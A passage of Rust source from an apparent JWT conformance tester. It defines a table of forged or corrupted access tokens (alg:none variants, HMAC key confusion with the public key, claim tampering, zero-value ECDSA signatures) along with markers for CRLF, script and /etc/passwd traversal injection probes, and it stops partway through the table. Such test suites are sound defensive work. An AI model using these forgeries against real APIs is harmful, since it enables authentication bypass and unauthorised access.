//! Named defects: one table, one row per recipe. Each row changes one thing relative to the
//! valid token (or the few things an attack needs together, all declared in `breaks`), says in
//! one line what it is and why an API must refuse it, and which verdict a correct API gives.
//! A defect's name starts with the id of its row in the catalogue (`jwt-cases.md`).

use super::rows::{Forger, Row};
use super::{PublicKeyEncoding, RsaKey, Signer, TokenBuilder, attacker_key};
use crate::b64;
use serde_json::{Value, json};

/// What a correct API answers to a defect.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Answer {
    /// 401 with `error="invalid_token"` on every protected endpoint.
    Refuse,
    /// A valid token without the scope: 200 on `/api/private`, 403 `insufficient_scope` on
    /// `/api/private-scoped`.
    InsufficientScope,
    /// A benign variant: 200.
    Accept,
    /// A legal variant a correct API should accept (200); refusing it is defensible but locks
    /// the API out the day the tenant issues it (`typ: at+jwt` under Auth0's RFC 9068 token
    /// profile), so a refusal is reported as a warning, not a failure.
    Preferred,
    /// Either answer is defensible (the profile decides); never a 5xx.
    Tolerated,
}

/// What a correct verifier finds wrong with a token.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Check {
    /// Not three base64url parts of JSON objects.
    Format,
    /// `alg` is not exactly `RS256`.
    Algorithm,
    /// A header field a correct API refuses (`crit`, a foreign `typ`).
    Header,
    /// No `kid`, or one the tenant's JWKS does not have.
    Key,
    /// The signature does not verify with the tenant's key under that `kid`.
    Signature,
    /// `exp` absent, not a number, or past.
    Expiry,
    /// `nbf` in the future.
    NotBefore,
    /// `iat` in the future.
    IssuedAt,
    /// `iss` is not exactly the tenant's issuer.
    Issuer,
    /// `aud` does not name the API.
    Audience,
    /// `scope` (a space-separated string) lacks `read:messages`.
    Scope,
}

/// One named defect.
#[derive(Clone, Copy)]
pub struct Defect {
    /// The defect as a type.
    pub id: DefectId,
    /// The name, starting with its catalogue row id.
    pub name: &'static str,
    /// The catalogue row (`jwt-cases.md`).
    pub row: Row,
    /// Who could make this token in real life.
    pub forger: Forger,
    /// One line: what it is and why an API must refuse it (or may accept it).
    pub about: &'static str,
    /// Where it comes from: RFC section, CVE, tool.
    pub source: &'static str,
    /// What a correct API answers.
    pub answer: Answer,
    /// What a correct verifier finds wrong (empty for benign variants).
    pub breaks: &'static [Check],
    pub(crate) recipe: fn(TokenBuilder) -> TokenBuilder,
}

impl std::fmt::Debug for Defect {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Defect")
            .field("name", &self.name)
            .field("answer", &self.answer)
            .finish_non_exhaustive()
    }
}

/// Every defect, in catalogue order.
pub fn defects() -> &'static [Defect] {
    DEFECTS
}

/// The defect with this name.
pub fn find_defect(name: &str) -> Option<&'static Defect> {
    DEFECTS.iter().find(|d| d.name == name)
}

impl DefectId {
    /// The defect's row of the table.
    pub fn defect(self) -> &'static Defect {
        &DEFECTS[self as usize]
    }
}

impl std::fmt::Display for DefectId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

impl std::str::FromStr for DefectId {
    type Err = crate::Error;

    /// The defect with this name (`alg-none`), as the `/_mock/` wire spells it.
    fn from_str(name: &str) -> Result<Self, Self::Err> {
        find_defect(name)
            .map(|d| d.id)
            .ok_or_else(|| crate::Error::UnknownDefect(name.to_owned()))
    }
}

use Answer::{Accept, InsufficientScope, Preferred, Refuse, Tolerated};
use Check::*;

// Helpers the recipes share -----------------------------------------------------------------

fn tenant_rsa(bits: u16) -> Signer {
    Signer::Rsa {
        key: RsaKey::Tenant,
        bits,
    }
}

fn attacker_rsa() -> Signer {
    Signer::Rsa {
        key: RsaKey::Attacker,
        bits: 256,
    }
}

/// Replaces the compact token's part `index` (0 header, 1 payload, 2 signature).
fn replace_part(token: &str, index: usize, f: impl Fn(&str) -> String) -> String {
    token
        .split('.')
        .enumerate()
        .map(|(i, p)| if i == index { f(p) } else { p.to_owned() })
        .collect::<Vec<_>>()
        .join(".")
}

/// A claim of the builder's token, or `null` when an override removed it.
fn claim(b: &TokenBuilder, name: &str) -> Value {
    b.claims().get(name).cloned().unwrap_or(Value::Null)
}

/// `part` with `c` inserted at `at` (or at the end when shorter: overrides can shrink a part).
fn insert_at(part: &str, at: usize, c: char) -> String {
    let at = at.min(part.len());
    format!("{}{c}{}", &part[..at], &part[at..])
}

/// Keeps the signature of the valid token but changes one claim in the payload.
fn tamper(b: TokenBuilder, claim: &'static str, value: Value) -> TokenBuilder {
    let mut changed = b.claims().clone();
    changed.insert(claim.to_owned(), value);
    let payload = b64::url(Value::Object(changed).to_string());
    b.finish(move |t| replace_part(&t, 1, |_| payload.clone()))
}

/// Keeps the signature of the valid token but changes one header field.
fn tamper_header(b: TokenBuilder, field: &'static str, value: Value) -> TokenBuilder {
    let signed = b.clone();
    let header_b = b.header(field, value);
    let header = header_b.sign();
    let header = header.split('.').next().unwrap_or_default().to_owned();
    signed.finish(move |t| replace_part(&t, 0, |_| header.clone()))
}

fn alg_none(b: TokenBuilder, form: &str) -> TokenBuilder {
    b.alg(form).signer(Signer::Empty)
}

fn hs(b: TokenBuilder, bits: u16, encoding: PublicKeyEncoding) -> TokenBuilder {
    let secret = encoding.encode(&b.tenant_key());
    let alg = format!("HS{bits}");
    b.alg(&alg).signer(Signer::Hmac { bits, secret })
}

fn hs_secret(b: TokenBuilder, secret: &[u8]) -> TokenBuilder {
    b.alg("HS256").signer(Signer::Hmac {
        bits: 256,
        secret: secret.to_vec(),
    })
}

fn without_claim(b: TokenBuilder, claim: &str) -> TokenBuilder {
    b.without_claim(claim)
}

/// `text` with the first letter that has a Cyrillic look-alike swapped for it (after the
/// scheme, so a URL keeps `https://`).
fn homoglyph(text: &str) -> String {
    const LOOKALIKE: &[(char, char)] = &[
        ('o', 'о'),
        ('a', 'а'),
        ('e', 'е'),
        ('c', 'с'),
        ('p', 'р'),
        ('x', 'х'),
        ('y', 'у'),
    ];
    let start = text.find("://").map_or(0, |i| i + 3);
    let (head, tail) = text.split_at(start);
    match tail.char_indices().find_map(|(i, c)| {
        LOOKALIKE
            .iter()
            .find(|(l, _)| *l == c)
            .map(|(_, r)| (i, *r))
    }) {
        Some((i, r)) => format!("{head}{}{r}{}", &tail[..i], &tail[i + 1..]),
        None => format!("{text}\u{0430}"),
    }
}

/// The response header `claim-inject-crlf` tries to inject: present in an answer, the API wrote the
/// subject raw into its headers.
pub const INJECTED_HEADER: &str = "X-Conformance-Injected";

/// The start of the `<script>` element `claim-inject-html` carries: in an HTML answer, the claim
/// was written unescaped.
pub const SCRIPT_MARKER: &str = "<script>conformance";

/// The start of `/etc/passwd`'s first line: in an answer to `claim-inject-traversal`, the API read
/// the file its subject named.
pub const PASSWD_MARKER: &str = "root:x:0:0:";

/// The namespaced custom claims an Auth0 Action adds (`api.accessToken.setCustomClaim`).
const CUSTOM_CLAIM: &str = "https://example.com/org";
const NAME_CLAIM: &str = "https://example.com/name";

/// CVE-2022-39227's polyglot, as the advisory's fix tests it (python_jwt's
/// `test/vulnerability_vows.py`): the genuine token as flattened JWS JSON, behind a first member
/// named `"  header.claims."` whose claims are the genuine ones edited by `edit`, unsigned.
/// `spaced: false` drops the advisory's two cosmetic spaces (inside that name and after a
/// comma): the same polyglot, which a bearer parser that refuses spaces hands on whole.
fn polyglot(token: &str, spaced: bool, edit: impl FnOnce(&mut Value)) -> String {
    let p: Vec<&str> = token.split('.').collect();
    let mut claims: Value = b64::decode_url(p[1])
        .and_then(|c| serde_json::from_slice(&c).ok())
        .unwrap_or_default();
    edit(&mut claims);
    let fake = b64::url(claims.to_string());
    let (lead, comma) = if spaced { ("  ", ", ") } else { ("", ",") };
    format!(
        r#"{{"{lead}{}.{fake}.":"","protected":"{}"{comma}"payload":"{}","signature":"{}"}}"#,
        p[0], p[0], p[1], p[2]
    )
}

/// The valid payload as JSON text with `extra` spliced in before the closing brace.
fn payload_with(b: &TokenBuilder, extra: &str) -> Vec<u8> {
    let text = Value::Object(b.claims().clone()).to_string();
    format!("{},{extra}}}", &text[..text.len() - 1]).into_bytes()
}

fn in_seconds(b: &TokenBuilder, seconds: i64) -> i64 {
    b.now() + seconds
}

const ATTACKER_JWKS: &str = "/.well-known/jwks.json";
const ATTACKER_CERT: &str = "/cert.pem";

/// Signs with the attacker's key under its own `kid` and sets a header URL to the attacker.
fn attacker_url(b: TokenBuilder, field: &str, url: String) -> TokenBuilder {
    let kid = attacker_key().kid.clone();
    b.kid(&kid).header(field, url).signer(attacker_rsa())
}

/// One row: `defect!(Variant, "name", Row[ @ forger], answer, [checks], "source", "about",
/// recipe)`. The forger is the row's unless `@` names another.
macro_rules! defect {
    ($id:ident, $name:literal, $row:ident, $($rest:tt)*) => {
        defect!(@row $id, $name, $row, Row::$row.forger(), $($rest)*)
    };
    ($id:ident, $name:literal, $row:ident @ $forger:expr, $($rest:tt)*) => {
        defect!(@row $id, $name, $row, $forger, $($rest)*)
    };
    (@row $id:ident, $name:literal, $row:ident, $forger:expr, $answer:expr, [$($check:expr),*], $source:literal, $about:literal, $recipe:expr) => {
        Defect {
            id: DefectId::$id,
            name: $name,
            row: Row::$row,
            forger: $forger,
            about: $about,
            source: $source,
            answer: $answer,
            breaks: &[$($check),*],
            recipe: $recipe,
        }
    };
}

/// The table: generates [`DefectId`], one variant per row in the same order, and the rows.
macro_rules! defects {
    ($(defect!($id:ident, $name:literal, $($rest:tt)*)),* $(,)?) => {
        /// A named defect as a type: one variant per row of the forge's table, in catalogue
        /// order. Its name (`alg-none`) is what the `/_mock/` wire and the reports carry.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
        pub enum DefectId {
            $(
                #[doc = concat!("`", $name, "`.")]
                $id,
            )*
        }

        impl DefectId {
            /// Every defect, in catalogue order.
            pub const ALL: &'static [DefectId] = &[$(DefectId::$id),*];

            /// The defect's name, e.g. `alg-none`.
            pub const fn name(self) -> &'static str {
                match self {
                    $(DefectId::$id => $name,)*
                }
            }
        }

        /// Serialized as its name, as the `/_mock/` wire and the reports spell it.
        impl serde::Serialize for DefectId {
            fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
                serializer.serialize_str(self.name())
            }
        }

        static DEFECTS: &[Defect] = &[$(defect!($id, $name, $($rest)*)),*];
    };
}

defects! {
    // SIG ----------------------------------------------------------------------------------
    defect!(SigBrokenAppended, "sig-broken-appended", SigBroken, Refuse, [Signature], "AQT; jwt_tool", "the text `string` appended to the signature: a signature must verify exactly", |b| b.finish(|t| format!("{t}string"))),
    defect!(SigBrokenBitflip, "sig-broken-bitflip", SigBroken, Refuse, [Signature], "jwt_tool; Wycheproof", "one bit of the signature flipped", |b| b.finish(|t| replace_part(&t, 2, |s| { let mut raw = crate::b64::decode_url(s).unwrap_or_default(); if let Some(x) = raw.get_mut(10) { *x ^= 1; } b64::url(raw) }))),
    defect!(SigBrokenTruncated, "sig-broken-truncated", SigBroken, Refuse, [Signature], "jwt_tool", "the last 3 bytes of the signature cut off", |b| b.finish(|t| replace_part(&t, 2, |s| { let raw = crate::b64::decode_url(s).unwrap_or_default(); b64::url(&raw[..raw.len().saturating_sub(3)]) }))),
    defect!(SigStripEmpty, "sig-strip-empty", SigStrip, Refuse, [Signature], "CVE-2020-28042; jwt_tool -X n", "`header.payload.` with an empty signature under alg RS256", |b| b.signer(Signer::Empty)),
    defect!(SigStripTwoParts, "sig-strip-two-parts", SigStrip, Refuse, [Format], "CVE-2020-28042", "`header.payload` with no signature part at all", |b| b.finish(|t| t[..t.rfind('.').unwrap_or(t.len())].to_owned())),
    defect!(SigStripNoHeader, "sig-strip-no-header", SigStrip, Refuse, [Format], "Wycheproof", "`.payload.signature`: the header part is empty", |b| b.finish(|t| replace_part(&t, 0, |_| String::new()))),
    defect!(SigStripNoPayload, "sig-strip-no-payload", SigStrip, Refuse, [Format], "Wycheproof", "`header..signature`: the payload part is empty", |b| b.finish(|t| replace_part(&t, 1, |_| String::new()))),
    defect!(SigStripExtraPart, "sig-strip-extra-part", SigStrip, Refuse, [Format], "RFC 7515 §7.1", "a fourth part appended: a JWS has exactly three", |b| b.finish(|t| format!("{t}.x"))),
    defect!(SigStripDotsOnly, "sig-strip-dots-only", SigStrip, Refuse, [Format], "RFC 7515 §7.1", "`..`: three empty parts, the compact shape with nothing in it", |b| b.finish(|_| "..".to_owned())),
    defect!(SigStripDotsFive, "sig-strip-dots-five", SigStrip, Refuse, [Format], "RFC 7516 §7.1", "`....`: five empty parts, a JWE's shape with nothing in it", |b| b.finish(|_| "....".to_owned())),
    defect!(TamperSub, "tamper-sub", Tamper, Refuse, [Signature], "jwt_tool claim tampering", "`sub` changed after signing, signature kept", |b| tamper(b, "sub", json!("admin@clients"))),
    defect!(TamperScope, "tamper-scope", Tamper, Refuse, [Signature], "jwt_tool claim tampering", "`scope` widened after signing, signature kept", |b| tamper(b, "scope", json!("read:messages write:messages admin"))),
    defect!(TamperAud, "tamper-aud", Tamper, Refuse, [Signature], "jwt_tool claim tampering", "`aud` changed after signing (still naming the API), signature kept", |b| { let aud = claim(&b, "aud").clone(); tamper(b, "aud", json!([aud, "https://evil.example/"])) }),
    defect!(TamperExp, "tamper-exp", Tamper, Refuse, [Signature], "jwt_tool claim tampering", "`exp` pushed a year out after signing, signature kept", |b| { let exp = in_seconds(&b, 365 * 86_400); tamper(b, "exp", json!(exp)) }),
    defect!(TamperKid, "tamper-kid", Tamper, Refuse, [Signature], "jwt_tool", "`kid` switched to the tenant's next key after signing", |b| { let next = b.next_kid(); tamper_header(b, "kid", json!(next)) }),
    defect!(TamperTyp, "tamper-typ", Tamper, Refuse, [Signature], "jwt_tool", "`typ` changed to `at+jwt` after signing, signature kept", |b| tamper_header(b, "typ", json!("at+jwt"))),
    defect!(SigNoncanonPadding, "sig-noncanon-padding", SigNoncanon, Tolerated, [Format], "Wycheproof base64; RFC 7515 §2", "`==` padding appended to the signature (base64url in JWS has none)", |b| b.finish(|t| format!("{t}=="))),
    defect!(SigNoncanonAlphabet, "sig-noncanon-alphabet", SigNoncanon, Refuse, [Format], "RFC 7515 §2", "the signature in standard base64 (`+`, `/`, padding) instead of base64url", |b| b.finish(|t| replace_part(&t, 2, |s| b64::standard(crate::b64::decode_url(s).unwrap_or_default())))),
    defect!(SigNoncanonUnusedBits, "sig-noncanon-unused-bits", SigNoncanon, Tolerated, [Format], "Wycheproof base64", "the unused low bits of the signature's last character set", |b| b.finish(|t| replace_part(&t, 2, |s| { let mut s = s.to_owned(); let last = s.pop().unwrap_or('A'); let i = B64URL.find(last).unwrap_or(0); s.push(B64URL.as_bytes()[(i | 0b11) & 63] as char); s }))),
    defect!(B64GarbageSpace, "b64-garbage-space", B64Garbage, Refuse, [Format], "Wycheproof base64", "a space inside the payload part", |b| b.finish(|t| replace_part(&t, 1, |p| insert_at(p, 10, ' ')))),
    defect!(B64GarbageHash, "b64-garbage-hash", B64Garbage, Refuse, [Format], "Wycheproof base64", "a `#` inside the header part", |b| b.finish(|t| replace_part(&t, 0, |p| insert_at(p, 5, '#')))),
    defect!(B64GarbageQuery, "b64-garbage-query", B64Garbage, Refuse, [Format], "Wycheproof base64", "a `?` inside the payload part", |b| b.finish(|t| replace_part(&t, 1, |p| insert_at(p, 7, '?')))),
    defect!(SigHuge, "sig-huge", SigHuge, Refuse, [Signature], "Wycheproof ModifiedPadding", "a 64 KiB signature", |b| b.raw_signature(vec![0x5a; 64 * 1024])),
    defect!(SigHuge256k, "sig-huge-256k", SigHuge, Refuse, [Signature], "Authlib 1.6.5 advisory (unbounded JWS segments; 256 KB limit)", "a 256 KiB signature: refused (431, 400 or 401) without a hang or a 5xx", |b| b.raw_signature(vec![0x5a; 256 * 1024])),
    // ALG ----------------------------------------------------------------------------------
    defect!(AlgNone, "alg-none", AlgNone, Refuse, [Algorithm], "RFC 8725 §2.1; CVE-2015-9235", "`alg: none` and no signature", |b| alg_none(b, "none")),
    defect!(AlgNoneUpper, "alg-none-upper", AlgNone, Refuse, [Algorithm], "RFC 8725 §2.1; CVE-2022-23540", "`alg: NONE` and no signature", |b| alg_none(b, "NONE")),
    defect!(AlgNoneTitle, "alg-none-title", AlgNone, Refuse, [Algorithm], "RFC 8725 §2.1", "`alg: None` and no signature", |b| alg_none(b, "None")),
    defect!(AlgNoneCase0101, "alg-none-nOnE", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: nOnE` and no signature", |b| alg_none(b, "nOnE")),
    defect!(AlgNoneCase0001, "alg-none-nonE", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: nonE` and no signature", |b| alg_none(b, "nonE")),
    defect!(AlgNoneCase0010, "alg-none-noNe", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: noNe` and no signature", |b| alg_none(b, "noNe")),
    defect!(AlgNoneCase0011, "alg-none-noNE", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: noNE` and no signature", |b| alg_none(b, "noNE")),
    defect!(AlgNoneCase0100, "alg-none-nOne", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: nOne` and no signature", |b| alg_none(b, "nOne")),
    defect!(AlgNoneCase0110, "alg-none-nONe", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: nONe` and no signature", |b| alg_none(b, "nONe")),
    defect!(AlgNoneCase0111, "alg-none-nONE", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: nONE` and no signature", |b| alg_none(b, "nONE")),
    defect!(AlgNoneCase1001, "alg-none-NonE", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: NonE` and no signature", |b| alg_none(b, "NonE")),
    defect!(AlgNoneCase1010, "alg-none-NoNe", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: NoNe` and no signature", |b| alg_none(b, "NoNe")),
    defect!(AlgNoneCase1011, "alg-none-NoNE", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: NoNE` and no signature", |b| alg_none(b, "NoNE")),
    defect!(AlgNoneCase1100, "alg-none-NOne", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: NOne` and no signature", |b| alg_none(b, "NOne")),
    defect!(AlgNoneCase1101, "alg-none-NOnE", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: NOnE` and no signature", |b| alg_none(b, "NOnE")),
    defect!(AlgNoneCase1110, "alg-none-NONe", AlgNone, Refuse, [Algorithm], "jwt_tool -X a", "`alg: NONe` and no signature", |b| alg_none(b, "NONe")),
    defect!(AlgNoneWithSig, "alg-none-with-sig", AlgNone, Refuse, [Algorithm], "CVE-2026-28802", "`alg: none` keeping the original RS256 signature", |b| b.alg("none")),
    defect!(AlgNoneNoKid, "alg-none-no-kid", AlgNone, Refuse, [Algorithm, Key], "jwt-scanner", "`alg: none` without a `kid`", |b| alg_none(b, "none").without_header("kid")),
    defect!(HsPubkeyPem, "hs-pubkey-pem", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS256 keyed with the tenant's public key as SPKI PEM (key confusion)", |b| hs(b, 256, PublicKeyEncoding::SpkiPem)),
    defect!(HsPubkeyPemAlgLower, "hs-pubkey-pem-alg-lower", HsPubkey, Refuse, [Algorithm], "RFC 8725bis §3.1 (alg read case-insensitively)", "HS256 keyed with the tenant's public key (SPKI PEM), its `alg` written `hs256`: a verifier that upper-cases `alg` before its allow-list or its dispatch lets it through", |b| hs(b, 256, PublicKeyEncoding::SpkiPem).alg("hs256")),
    defect!(HsPubkeyPemAlgMixed, "hs-pubkey-pem-alg-mixed", HsPubkey, Refuse, [Algorithm], "RFC 8725bis §3.1 (alg read case-insensitively)", "the same, `alg: Hs256`", |b| hs(b, 256, PublicKeyEncoding::SpkiPem).alg("Hs256")),
    defect!(HsPubkeyPemNoNewline, "hs-pubkey-pem-no-newline", HsPubkey, Refuse, [Algorithm], "CVE-2022-29217", "HS256 keyed with the SPKI PEM without its final newline", |b| hs(b, 256, PublicKeyEncoding::SpkiPemNoNewline)),
    defect!(HsPubkeyPemLeadingSpace, "hs-pubkey-pem-leading-space", HsPubkey, Refuse, [Algorithm], "CVE-2026-34950", "HS256 keyed with the SPKI PEM after leading whitespace", |b| hs(b, 256, PublicKeyEncoding::SpkiPemLeadingSpace)),
    defect!(HsPubkeyPkcs1, "hs-pubkey-pkcs1", HsPubkey, Refuse, [Algorithm], "CVE-2017-11424", "HS256 keyed with the public key as PKCS#1 PEM", |b| hs(b, 256, PublicKeyEncoding::Pkcs1Pem)),
    defect!(HsPubkeyDer, "hs-pubkey-der", HsPubkey, Refuse, [Algorithm], "CVE-2022-23541", "HS256 keyed with the public key as SPKI DER", |b| hs(b, 256, PublicKeyEncoding::SpkiDer)),
    defect!(HsPubkeySsh, "hs-pubkey-ssh", HsPubkey, Refuse, [Algorithm], "CVE-2023-48223", "HS256 keyed with the public key as `ssh-rsa`", |b| hs(b, 256, PublicKeyEncoding::Ssh)),
    defect!(HsPubkeyJwk, "hs-pubkey-jwk", HsPubkey, Refuse, [Algorithm], "CVE-2024-33663", "HS256 keyed with the public JWK as JSON text", |b| hs(b, 256, PublicKeyEncoding::JwkJson)),
    defect!(HsPubkeyModulus, "hs-pubkey-modulus", HsPubkey, Refuse, [Algorithm], "CVE-2024-37568", "HS256 keyed with the raw modulus `n`", |b| hs(b, 256, PublicKeyEncoding::Modulus)),
    defect!(HsPubkeyX5c, "hs-pubkey-x5c", HsPubkey, Refuse, [Algorithm], "jwt_tool -X k", "HS256 keyed with the `x5c` certificate as PEM", |b| hs(b, 256, PublicKeyEncoding::CertificatePem)),
    defect!(HsPubkeyPemHs384, "hs-pubkey-pem-hs384", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555", "HS384 keyed with the SPKI PEM", |b| hs(b, 384, PublicKeyEncoding::SpkiPem)),
    defect!(HsPubkeyPemHs512, "hs-pubkey-pem-hs512", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555", "HS512 keyed with the SPKI PEM", |b| hs(b, 512, PublicKeyEncoding::SpkiPem)),
    defect!(HsPubkeyPemNoNewlineHs384, "hs-pubkey-pem-no-newline-hs384", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS384 keyed with the SPKI PEM without its final newline", |b| hs(b, 384, PublicKeyEncoding::SpkiPemNoNewline)),
    defect!(HsPubkeyPemLeadingSpaceHs384, "hs-pubkey-pem-leading-space-hs384", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS384 keyed with the SPKI PEM after leading whitespace", |b| hs(b, 384, PublicKeyEncoding::SpkiPemLeadingSpace)),
    defect!(HsPubkeyPkcs1Hs384, "hs-pubkey-pkcs1-hs384", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS384 keyed with the public key as PKCS#1 PEM", |b| hs(b, 384, PublicKeyEncoding::Pkcs1Pem)),
    defect!(HsPubkeyDerHs384, "hs-pubkey-der-hs384", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS384 keyed with the public key as SPKI DER", |b| hs(b, 384, PublicKeyEncoding::SpkiDer)),
    defect!(HsPubkeySshHs384, "hs-pubkey-ssh-hs384", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS384 keyed with the public key as `ssh-rsa`", |b| hs(b, 384, PublicKeyEncoding::Ssh)),
    defect!(HsPubkeyJwkHs384, "hs-pubkey-jwk-hs384", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS384 keyed with the public JWK as JSON text", |b| hs(b, 384, PublicKeyEncoding::JwkJson)),
    defect!(HsPubkeyModulusHs384, "hs-pubkey-modulus-hs384", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS384 keyed with the raw modulus `n`", |b| hs(b, 384, PublicKeyEncoding::Modulus)),
    defect!(HsPubkeyX5cHs384, "hs-pubkey-x5c-hs384", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS384 keyed with the `x5c` certificate as PEM", |b| hs(b, 384, PublicKeyEncoding::CertificatePem)),
    defect!(HsPubkeyPemNoNewlineHs512, "hs-pubkey-pem-no-newline-hs512", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS512 keyed with the SPKI PEM without its final newline", |b| hs(b, 512, PublicKeyEncoding::SpkiPemNoNewline)),
    defect!(HsPubkeyPemLeadingSpaceHs512, "hs-pubkey-pem-leading-space-hs512", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS512 keyed with the SPKI PEM after leading whitespace", |b| hs(b, 512, PublicKeyEncoding::SpkiPemLeadingSpace)),
    defect!(HsPubkeyPkcs1Hs512, "hs-pubkey-pkcs1-hs512", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS512 keyed with the public key as PKCS#1 PEM", |b| hs(b, 512, PublicKeyEncoding::Pkcs1Pem)),
    defect!(HsPubkeyDerHs512, "hs-pubkey-der-hs512", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS512 keyed with the public key as SPKI DER", |b| hs(b, 512, PublicKeyEncoding::SpkiDer)),
    defect!(HsPubkeySshHs512, "hs-pubkey-ssh-hs512", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS512 keyed with the public key as `ssh-rsa`", |b| hs(b, 512, PublicKeyEncoding::Ssh)),
    defect!(HsPubkeyJwkHs512, "hs-pubkey-jwk-hs512", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS512 keyed with the public JWK as JSON text", |b| hs(b, 512, PublicKeyEncoding::JwkJson)),
    defect!(HsPubkeyModulusHs512, "hs-pubkey-modulus-hs512", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS512 keyed with the raw modulus `n`", |b| hs(b, 512, PublicKeyEncoding::Modulus)),
    defect!(HsPubkeyX5cHs512, "hs-pubkey-x5c-hs512", HsPubkey, Refuse, [Algorithm], "CVE-2016-10555; jwt_tool -X k", "HS512 keyed with the `x5c` certificate as PEM", |b| hs(b, 512, PublicKeyEncoding::CertificatePem)),
    defect!(HsBlank, "hs-blank", HsBlank, Refuse, [Algorithm], "jwt_tool -X b; CVE-2019-20933", "HS256 with an empty key", |b| hs_secret(b, b"")),
    defect!(HsBlankUnknownKid, "hs-blank-unknown-kid", HsBlank, Refuse, [Algorithm, Key], "CVE-2026-44351", "HS256 with an empty key and an unknown `kid` (resolvers that fall back to `\"\"`)", |b| hs_secret(b, b"").kid("unknown-kid")),
    defect!(HsWeakSecret, "hs-weak-secret", HsWeak, Refuse, [Algorithm], "RFC 8725 §3.5; jwt_tool wordlist", "HS256 keyed with `secret`", |b| hs_secret(b, b"secret")),
    defect!(HsWeakClientSecret, "hs-weak-client-secret", HsWeak, Refuse, [Algorithm], "RFC 8725 §3.5", "HS256 keyed with one of the tenant's client secrets", |b| { let s = b.some_client_secret(); hs_secret(b, s.as_bytes()) }),
    defect!(EsPsychicZero, "es-psychic-zero", EsPsychic, Refuse, [Algorithm], "CVE-2022-21449", "`alg: ES256` under the tenant `kid` with a signature of 64 zero bytes", |b| b.alg("ES256").raw_signature(vec![0; 64])),
    defect!(EsPsychicDer, "es-psychic-der", EsPsychic, Refuse, [Algorithm], "CVE-2022-21449; Wycheproof", "`alg: ES256` with the DER signature r = s = 0", |b| b.alg("ES256").raw_signature(vec![0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00])),
    defect!(EsPsychicOrder, "es-psychic-order", EsPsychic, Refuse, [Algorithm], "Wycheproof SpecialCaseEs256", "`alg: ES256` with r = s = n, the P-256 group order", |b| { let n = P256_ORDER.to_vec(); b.alg("ES256").raw_signature([n.clone(), n].concat()) }),
    defect!(EsAttacker, "es-attacker", EsAttacker, Refuse, [Algorithm], "RFC 8725 §3.1", "ES256 signed by an attacker's EC key under the tenant `kid`", |b| b.alg("ES256").signer(Signer::Es256Attacker)),
    defect!(AlgSwapLegitPs256, "alg-swap-legit-ps256", AlgSwapLegit, Refuse, [Algorithm], "RFC 8725 §3.1; Wycheproof WrongPrimitive", "PS256 signed with the tenant's real key: outside the RS256 allow-list", |b| b.alg("PS256").signer(Signer::RsaPss { key: RsaKey::Tenant, bits: 256 })),
    defect!(AlgSwapLegitRs384, "alg-swap-legit-rs384", AlgSwapLegit, Refuse, [Algorithm], "RFC 8725 §3.1", "RS384 signed with the tenant's real key", |b| b.alg("RS384").signer(tenant_rsa(384))),
    defect!(AlgSwapLegitRs512, "alg-swap-legit-rs512", AlgSwapLegit, Refuse, [Algorithm], "RFC 8725 §3.1", "RS512 signed with the tenant's real key", |b| b.alg("RS512").signer(tenant_rsa(512))),
    defect!(AlgGarbageMissing, "alg-garbage-missing", AlgGarbage, Refuse, [Algorithm], "RFC 7515 §4.1.1", "no `alg` in the header (RS256 signature)", |b| b.without_header("alg")),
    defect!(AlgGarbageEmpty, "alg-garbage-empty", AlgGarbage, Refuse, [Algorithm], "RFC 8725 §3.1", "`alg: \"\"`", |b| b.alg("")),
    defect!(AlgGarbageLowercase, "alg-garbage-lowercase", AlgGarbage, Refuse, [Algorithm], "RFC 7515 §4.1.1 (case-sensitive)", "`alg: rs256`", |b| b.alg("rs256")),
